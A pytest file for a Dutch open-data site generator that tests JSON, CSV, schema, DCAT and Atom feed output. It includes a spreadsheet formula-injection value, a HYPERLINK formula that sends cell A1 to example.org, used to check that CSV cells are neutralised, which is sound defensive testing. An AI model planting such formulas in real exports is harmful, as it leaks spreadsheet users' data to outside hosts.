"""Open data (generator/features/opendata): projecten.json and .csv, the schemas, DCAT-AP-DONL, the Atom feed.

The checks are functions (`check_…`) so that each is run twice: on a real build, where it must
pass, and on a deliberately broken copy of the same output, where it must fail. A check that
cannot fail proves nothing.

The site is built as `make site` builds it (`python -m generator build`, without the Pagefind
index, which these files do not need), twice, from the repository's content plus one record
whose title and summary are spreadsheet formulas.
"""

from __future__ import annotations

import copy
import csv
import io
import json
import re
import shutil
import subprocess
import xml.etree.ElementTree as ET
from pathlib import Path

import jsonschema
import pytest

from conftest import ROOT, run_generator
from generator.catalog.catalog import build_catalog
from generator.features import FeatureContext
from generator.features.opendata import dcat, opendata
from generator.model.records import json_schema
from generator.render.renderer import Renderer
from generator.render.settings import SiteSettings
from generator.validate.check import check_content

ATOM = "{http://www.w3.org/2005/Atom}"
OPEN_DATA_FILES = (opendata.JSON_PATH, opendata.CSV_PATH, opendata.SCHEMA_PATH, opendata.RECORD_SCHEMA_PATH,
                   opendata.DCAT_PATH, opendata.FEED_PATH)
FORMULA_TITLE = '=HYPERLINK("https://example.org/?x="&A1;"klik")'
FORMULA_SUMMARY = "@SUM(1+1) staat hier als tekst, net als -2+3."
FORMULA_RECORD = "formule-in-titel"
OLDER_REVIEW = "2025-06-02"
"""The formula record's review date: older than every real record's, so it must come last in the feed."""
RFC3339 = re.compile(r"^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}(\.\d+)?(Z|[+-]\d{2}:\d{2})$")


# --------------------------------------------------------------------------- the checks

def read_csv(raw: bytes) -> list[dict[str, str]]:
    """The CSV as a spreadsheet in the Netherlands reads it: BOM first, ';' between cells, our columns."""
    assert raw.startswith(b"\xef\xbb\xbf"), "geen UTF-8 BOM: Excel leest de accenten dan verkeerd"
    text = raw[3:].decode("utf-8")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    assert rows and rows[0] == [name for name, _, _ in opendata.CSV_COLUMNS], rows[:1]
    assert all(len(row) == len(rows[0]) for row in rows), "een regel heeft een ander aantal kolommen"
    return [dict(zip(rows[0], row)) for row in rows[1:]]


def check_one_per_record(data: dict, rows: list[dict[str, str]], record_ids: set[str]) -> None:
    json_ids = [entry["id"] for entry in data["projecten"]]
    csv_ids = [row["id"] for row in rows]
    assert sorted(json_ids) == sorted(record_ids), set(json_ids) ^ record_ids
    assert len(json_ids) == len(set(json_ids)) == data["aantal"], "dubbele of ontbrekende JSON-regels"
    assert sorted(csv_ids) == sorted(record_ids) and len(csv_ids) == len(set(csv_ids)), "CSV niet één regel per record"


def check_json_schema(data: dict, schema: dict) -> None:
    jsonschema.Draft202012Validator.check_schema(schema)
    jsonschema.Draft202012Validator(schema, format_checker=jsonschema.FormatChecker()).validate(data)


def check_no_formula(rows: list[dict[str, str]]) -> None:
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(opendata.FORMULA_STARTS), f"{row['id']}.{column} begint als formule: {cell!r}"


def check_atom(text: str) -> list[ET.Element]:
    """Valid Atom (RFC 4287) in what matters to a reader: namespace, required elements, dates, order, size."""
    root = ET.fromstring(text.encode("utf-8"))
    assert root.tag == f"{ATOM}feed", root.tag
    for name in ("id", "title", "updated"):
        assert (root.findtext(f"{ATOM}{name}") or "").strip(), f"feed mist <{name}>"
    assert RFC3339.match(root.findtext(f"{ATOM}updated")), root.findtext(f"{ATOM}updated")
    assert root.find(f"{ATOM}author/{ATOM}name") is not None, "feed mist <author><name>"
    assert root.find(f"{ATOM}link[@rel='self']") is not None, "feed mist <link rel=self>"
    entries = root.findall(f"{ATOM}entry")
    assert 0 < len(entries) <= opendata.FEED_SIZE
    ids = []
    for entry in entries:
        for name in ("id", "title", "updated"):
            assert (entry.findtext(f"{ATOM}{name}") or "").strip(), f"entry mist <{name}>"
        assert RFC3339.match(entry.findtext(f"{ATOM}updated"))
        assert entry.find(f"{ATOM}link[@rel='alternate']").get("href"), "entry zonder link"
        ids.append(entry.findtext(f"{ATOM}id"))
    assert len(ids) == len(set(ids)), "dubbele entry-id"
    dates = [entry.findtext(f"{ATOM}updated") for entry in entries]
    assert dates == sorted(dates, reverse=True), "niet nieuwste eerst"
    assert root.findtext(f"{ATOM}updated") == dates[0]
    return entries


DONL_DATASET = ("dct:identifier", "dct:title", "dct:description", "dct:publisher", "dct:creator", "dcat:contactPoint",
                "dct:license", "dct:language", "dcat:theme", "adms:status", "dcat:distribution", "dct:modified")
DONL_DISTRIBUTION = ("dct:title", "dct:description", "dcat:accessURL", "dct:format", "dct:license")


def check_dcat(document: dict, newest_review: str) -> dict:
    """The mandatory DCAT-AP-DONL properties, on the dataset and on every distribution; returns the dataset."""
    graph = {node["@id"]: node for node in document["@graph"]}
    datasets = [node for node in graph.values() if node["@type"] == "dcat:Dataset"]
    assert len(datasets) == 1
    dataset = datasets[0]
    missing = [name for name in DONL_DATASET if not dataset.get(name)]
    assert not missing, f"dataset mist {missing}"
    assert dataset["dct:modified"]["@value"] == newest_review, "dct:modified is niet de nieuwste beoordeling"
    assert dataset["dct:license"]["@id"] == dcat.LICENSE
    assert "http://standaarden.overheid.nl/owms/terms/" in json.dumps(dataset["dcat:theme"]), "geen OWMS-thema"
    for reference in dataset["dcat:distribution"]:
        distribution = graph[reference["@id"]]
        missing = [name for name in DONL_DISTRIBUTION if not distribution.get(name)]
        assert not missing, f"distributie {reference['@id']} mist {missing}"
    return dataset


def check_same_bytes(first: Path, second: Path, paths) -> None:
    for path in paths:
        assert (first / path).read_bytes() == (second / path).read_bytes(), f"{path} verschilt tussen twee bouwen"


# --------------------------------------------------------------------------- builds

def make_project(tmp: Path) -> Path:
    """The repository's site project with one more record, whose title and summary are formulas."""
    project = tmp / "project"
    project.mkdir()
    for name in ("content", "docs", "overrides"):
        shutil.copytree(ROOT / name, project / name)
    shutil.copy(ROOT / "mkdocs.yml", project / "mkdocs.yml")
    _fit_in_the_feed(project / "content")
    template = (ROOT / "content" / "projects" / "ao-on-tour.md").read_text(encoding="utf-8")
    front, body = template.split("\n---\n", 1)
    front = re.sub(r"(?m)^titel: .*$", f"titel: {json.dumps(FORMULA_TITLE)}", front)
    front = re.sub(r"(?m)^korte_beschrijving: .*$", f"korte_beschrijving: {json.dumps(FORMULA_SUMMARY)}", front)
    front = re.sub(r"(?m)^laatst_beoordeeld: .*$", f"laatst_beoordeeld: {OLDER_REVIEW}", front)
    (project / "content" / "projects" / f"{FORMULA_RECORD}.md").write_text(front + "\n---\n" + body, encoding="utf-8")
    return project


def _fit_in_the_feed(content: Path) -> None:
    """Leave out records (ones no other file names) until the formula record, reviewed longest ago, is
    still among the feed's FEED_SIZE newest: the feed tests need it there."""
    records = sorted((content / "projects").glob("*.md"))
    texts = {path: path.read_text(encoding="utf-8") for path in sorted(content.rglob("*.md"))}
    kept = {"noardeast-fryslan-next", "dienst-dommelvallei-div-naar-idv", "ao-on-tour"}
    removable = [p for p in records if p.stem not in kept
                 and not any(p.stem in text for other, text in texts.items() if other != p)]
    for path in removable[:max(0, len(records) + 1 - opendata.FEED_SIZE)]:
        path.unlink()


@pytest.fixture(scope="module")
def project(tmp_path_factory) -> Path:
    return make_project(tmp_path_factory.mktemp("opendata"))


def build(project: Path, out: Path) -> Path:
    result = run_generator("build", "--config", str(project / "mkdocs.yml"), "--content", str(project / "content"),
                           "--site-dir", str(out), "--no-search", timeout=300)
    assert result.returncode == 0, result.stdout + result.stderr
    return out


@pytest.fixture(scope="module")
def sites(project, tmp_path_factory) -> tuple[Path, Path]:
    """Two builds of the same project, in different folders."""
    return (build(project, tmp_path_factory.mktemp("eerste") / "site"),
            build(project, tmp_path_factory.mktemp("tweede") / "site"))


@pytest.fixture(scope="module")
def site(sites) -> Path:
    return sites[0]


@pytest.fixture(scope="module")
def record_ids(project) -> set[str]:
    return {path.stem for path in (project / "content" / "projects").glob("*.md")}


@pytest.fixture(scope="module")
def data(site) -> dict:
    return json.loads((site / opendata.JSON_PATH).read_text(encoding="utf-8"))


@pytest.fixture(scope="module")
def rows(site) -> list[dict[str, str]]:
    return read_csv((site / opendata.CSV_PATH).read_bytes())


# --------------------------------------------------------------------------- on the built site

def test_every_file_is_in_the_built_site(site) -> None:
    for path in (*OPEN_DATA_FILES, "data/index.html"):
        assert (site / path).is_file(), path


def test_one_json_entry_and_one_csv_row_per_record(data, rows, record_ids) -> None:
    assert len(record_ids) > 20
    check_one_per_record(data, rows, record_ids)


def test_json_validates_against_the_published_schema(site, data) -> None:
    schema = json.loads((site / opendata.SCHEMA_PATH).read_text(encoding="utf-8"))
    check_json_schema(data, schema)
    assert data["schema_versie"] == 1
    assert schema["$id"] == "https://kennisbank.example.nl/schema/projecten.schema.json"


def test_record_schema_is_the_models_schema(site) -> None:
    assert json.loads((site / opendata.RECORD_SCHEMA_PATH).read_text(encoding="utf-8")) == json_schema()


def test_municipalities_are_resolved_to_current_cbs_names_and_codes(data) -> None:
    by_id = {entry["id"]: entry for entry in data["projecten"]}
    # Named directly (Noardeast-Fryslân) and through an organisation (Dienst Dommelvallei: three municipalities,
    # Nuenen under its CBS name).
    direct = {m["code"]: m["naam"] for m in by_id["noardeast-fryslan-next"]["gemeenten"]}
    assert direct["GM1970"] == "Noardeast-Fryslân"
    tour = by_id["dienst-dommelvallei-div-naar-idv"]
    codes = {m["code"]: m["naam"] for m in tour["gemeenten"]}
    assert codes["GM0820"] == "Nuenen, Gerwen en Nederwetten" and {"GM0848", "GM1771"} <= set(codes)
    assert [o["naam"] for o in tour["organisaties"]] == ["Dienst Dommelvallei"]
    assert tour["bronnen"][0] == {"id": "ao-fonds-subsidie-2019", "jaar": 2019, "uitgever": "A&O fonds Gemeenten",
                                  "titel": tour["bronnen"][0]["titel"]}
    assert tour["url"] == "https://kennisbank.example.nl/projecten/dienst-dommelvallei-div-naar-idv/"
    assert tour["regeling"]["url"] == "https://kennisbank.example.nl/regelingen/ao-fonds-subsidie/"
    assert data["bijgewerkt"] == max(entry["laatst_beoordeeld"] for entry in data["projecten"]) > OLDER_REVIEW


def test_csv_reads_back_with_accents_and_columns(rows, data) -> None:
    by_id = {row["id"]: row for row in rows}
    tour = by_id["noardeast-fryslan-next"]
    assert tour["titel"] == "Op reis met NEXT"
    assert "Noardeast-Fryslân" in tour["gemeenten"].split(" | ")
    assert "GM1970" in tour["gemeentecodes"].split(" | ")
    assert "Fryslân" in tour["provincies"].split(" | ")
    json_tour = next(e for e in data["projecten"] if e["id"] == "noardeast-fryslan-next")
    assert tour["gemeentecodes"].split(" | ") == [m["code"] for m in json_tour["gemeenten"]]


def test_formula_cells_are_neutralised(rows) -> None:
    check_no_formula(rows)
    row = next(r for r in rows if r["id"] == FORMULA_RECORD)
    assert row["titel"] == "'" + FORMULA_TITLE
    assert row["korte_beschrijving"] == "'" + FORMULA_SUMMARY


def test_formula_text_stays_intact_in_json_and_feed(data, site) -> None:
    entry = next(e for e in data["projecten"] if e["id"] == FORMULA_RECORD)
    assert entry["titel"] == FORMULA_TITLE  # JSON is data, not a spreadsheet: nothing to neutralise
    titles = [e.findtext(f"{ATOM}title") for e in check_atom((site / opendata.FEED_PATH).read_text(encoding="utf-8"))]
    assert FORMULA_TITLE in titles


def test_feed_is_atom_newest_first(site, data) -> None:
    entries = check_atom((site / opendata.FEED_PATH).read_text(encoding="utf-8"))
    newest = sorted(data["projecten"], key=lambda e: (e["laatst_beoordeeld"], e["id"]))[-1]
    assert entries[0].findtext(f"{ATOM}updated").startswith(newest["laatst_beoordeeld"])
    assert entries[-1].findtext(f"{ATOM}title") == FORMULA_TITLE
    assert entries[-1].findtext(f"{ATOM}updated") == f"{OLDER_REVIEW}T00:00:00Z"
    links = [e.find(f"{ATOM}link").get("href") for e in entries]
    assert all(link.startswith("https://kennisbank.example.nl/projecten/") for link in links)


def test_dcat_description_has_donl_mandatory_properties(site, data) -> None:
    document = json.loads((site / opendata.DCAT_PATH).read_text(encoding="utf-8"))
    dataset = check_dcat(document, data["bijgewerkt"])
    graph = {node["@id"]: node for node in document["@graph"]}
    for reference in dataset["dcat:distribution"]:
        url = graph[reference["@id"]]["dcat:downloadURL"]["@id"]
        assert url.startswith("https://kennisbank.example.nl/")
        assert (site / url.removeprefix("https://kennisbank.example.nl/")).is_file(), url


def test_data_page_is_built_and_linked(site) -> None:
    page = (site / "data" / "index.html").read_text(encoding="utf-8")
    for name, _, _ in opendata.CSV_COLUMNS:
        assert f"<code>{name}</code>" in page, name
    assert "CC0" in page
    for target in ('href="projecten.json"', 'href="projecten.csv"', 'href="../feed.xml"', 'href="catalogus.jsonld"',
                   'href="../schema/projecten.schema.json"'):
        assert target in page, target
    assert 'href="../data/"' in (site / "over" / "index.html").read_text(encoding="utf-8")


def test_two_builds_give_the_same_bytes(sites) -> None:
    check_same_bytes(*sites, (*OPEN_DATA_FILES, "data/index.html"))


def test_libreoffice_opens_the_csv_with_accents_and_columns(site, tmp_path) -> None:
    """A headless LibreOffice reads the CSV (';', UTF-8) and writes back the very same cells.

    Optional everywhere, CI included: libreoffice-calc-nogui is a few hundred MB of Debian packages,
    and what it would catch (BOM, separator, quoting, accents) the csv-module checks above already
    require. Where `soffice` is installed, this runs.
    """
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    if soffice is None:
        pytest.skip("LibreOffice (soffice) is niet geïnstalleerd; apt-get install libreoffice-calc-nogui om dit te draaien")
    source = site / opendata.CSV_PATH
    expected = list(csv.reader(io.StringIO(source.read_bytes().decode("utf-8-sig"), newline=""), delimiter=";"))
    text_columns = "/".join(f"{index}/2" for index in range(1, len(expected[0]) + 1))  # 2: every column as text
    result = subprocess.run(
        [soffice, "--headless", "--norestore", f"-env:UserInstallation={(tmp_path / 'profiel').as_uri()}",
         f"--infilter=CSV:59,34,76,1,{text_columns}", "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76,1",
         "--outdir", str(tmp_path / "uit"), str(source)], capture_output=True, text=True, timeout=180)
    converted = tmp_path / "uit" / "projecten.csv"
    assert converted.is_file(), result.stdout + result.stderr
    back = list(csv.reader(io.StringIO(converted.read_text(encoding="utf-8"), newline="")))
    assert back == expected
    assert any("Fryslân" in cell for row in back for cell in row)


# --------------------------------------------------------------------------- without site_url

@pytest.fixture(scope="module")
def relative_files() -> dict[str, str | bytes]:
    catalog = build_catalog(check_content(ROOT / "content"))
    renderer = Renderer(catalog, SiteSettings())
    return opendata.files(FeatureContext(catalog, renderer.settings, renderer.env))


def test_without_site_url_links_are_relative_and_say_so(relative_files) -> None:
    feed = relative_files[opendata.FEED_PATH]
    check_atom(feed)
    assert "site_url" in feed and 'href="feed.xml"' in feed and 'href="projecten/ao-on-tour/"' in feed
    data = json.loads(relative_files[opendata.JSON_PATH])
    assert data["site"] is None and data["projecten"][0]["url"].startswith("projecten/")
    check_json_schema(data, json.loads(relative_files[opendata.SCHEMA_PATH]))
    document = json.loads(relative_files[opendata.DCAT_PATH])
    check_dcat(document, data["bijgewerkt"])
    assert '"@id": "projecten.json"' in relative_files[opendata.DCAT_PATH]
    assert '"@id": "../feed.xml"' in relative_files[opendata.DCAT_PATH]
    assert "site_url" in relative_files[opendata.PAGE_PATH]


@pytest.mark.parametrize("text", ["=1+1", "+31 20", "-2", "@SUM(A1)", "\tx", "\rx"])
def test_safe_cell_prefixes_formula_starts(text) -> None:
    assert opendata.safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["Haarlem", "", "2019-06-13", "'al tekst", "a=b"])
def test_safe_cell_leaves_other_text_alone(text) -> None:
    assert opendata.safe_cell(text) == text


def test_feed_is_capped_and_ordered_with_ties_by_id() -> None:
    entries = [{"id": f"r{i:03d}", "titel": "t", "korte_beschrijving": "k", "laatst_beoordeeld": f"2026-01-{i % 28 + 1:02d}",
                "url": "u", "themas": [], "domein": None, "status": None} for i in range(80)]
    chosen = opendata.feed_entries(entries)
    assert len(chosen) == opendata.FEED_SIZE
    keys = [(e["updated"], e["id"]) for e in chosen]
    assert [k[0] for k in keys] == sorted((k[0] for k in keys), reverse=True)
    assert opendata.xml_text("a\x0bb\x00c") == "abc"


# --------------------------------------------------------------------------- each check fails on broken input

def test_gate_one_per_record_fails_on_a_duplicate(data, rows, record_ids) -> None:
    doubled = copy.deepcopy(data)
    doubled["projecten"].append(doubled["projecten"][0])
    with pytest.raises(AssertionError):
        check_one_per_record(doubled, rows, record_ids)
    with pytest.raises(AssertionError):
        check_one_per_record(data, rows + rows[:1], record_ids)


def test_gate_schema_fails_on_a_missing_field(site, data) -> None:
    schema = json.loads((site / opendata.SCHEMA_PATH).read_text(encoding="utf-8"))
    broken = copy.deepcopy(data)
    del broken["projecten"][0]["laatst_beoordeeld"]
    with pytest.raises(jsonschema.ValidationError):
        check_json_schema(broken, schema)
    broken = copy.deepcopy(data)
    next(e for e in broken["projecten"] if e["gemeenten"])["gemeenten"][0]["code"] = "0392"
    with pytest.raises(jsonschema.ValidationError):
        check_json_schema(broken, schema)


def test_gate_csv_fails_without_bom_or_with_commas(site) -> None:
    raw = (site / opendata.CSV_PATH).read_bytes()
    with pytest.raises(AssertionError, match="BOM"):
        read_csv(raw[3:])
    with pytest.raises(AssertionError):
        read_csv(raw.replace(b";", b","))


def test_gate_formula_check_fails_on_an_unprefixed_cell(rows) -> None:
    broken = copy.deepcopy(rows)
    broken[0]["titel"] = FORMULA_TITLE
    with pytest.raises(AssertionError, match="formule"):
        check_no_formula(broken)


@pytest.mark.parametrize("breakage", [
    lambda text: re.sub(r"(?s)(<entry>.*?)<updated>[^<]*</updated>", r"\1", text, count=1),
    lambda text: text.replace('xmlns="http://www.w3.org/2005/Atom"', 'xmlns="http://example.org/rss"'),
    lambda text: re.sub(r"(?s)<author>.*?</author>", "", text, count=1),
    lambda text: text.replace("<title>", "<title>A & B", 1),
], ids=["entry-zonder-updated", "verkeerde-namespace", "zonder-auteur", "geen-xml"])
def test_gate_atom_fails_on_broken_feed(site, breakage) -> None:
    with pytest.raises((AssertionError, ET.ParseError)):
        check_atom(breakage((site / opendata.FEED_PATH).read_text(encoding="utf-8")))


def test_gate_dcat_fails_without_licence_or_with_a_build_date(site, data) -> None:
    document = json.loads((site / opendata.DCAT_PATH).read_text(encoding="utf-8"))
    broken = copy.deepcopy(document)
    next(n for n in broken["@graph"] if n["@type"] == "dcat:Dataset").pop("dct:license")
    with pytest.raises(AssertionError, match="dct:license"):
        check_dcat(broken, data["bijgewerkt"])
    with pytest.raises(AssertionError, match="modified"):
        check_dcat(document, "2099-01-01")


def test_gate_same_bytes_fails_when_one_byte_differs(sites, tmp_path) -> None:
    first, _ = sites
    changed = tmp_path / "site"
    shutil.copytree(first / "data", changed / "data")
    path = changed / opendata.JSON_PATH
    path.write_bytes(path.read_bytes().replace(b'"aantal"', b'"Aantal"'))
    with pytest.raises(AssertionError, match="verschilt"):
        check_same_bytes(first, changed, (opendata.JSON_PATH,))


def test_claims_travel_with_their_source_lines(data) -> None:
    """Whoever harvests the data gets a status and reuse with the sentence that says so, as the page does."""
    for entry in data["projecten"]:
        if entry["status"]["id"] != "onbekend":
            assert entry["status_bron"] and entry["status_bron"]["zin"], entry["id"]
        if entry["hergebruikt_door"]:
            assert entry["hergebruik_bron"], entry["id"]
        if entry["hergebruik_aantal"]:
            assert entry["hergebruik_aantal"]["aantal"] >= 1 and entry["hergebruik_aantal"]["zin"]
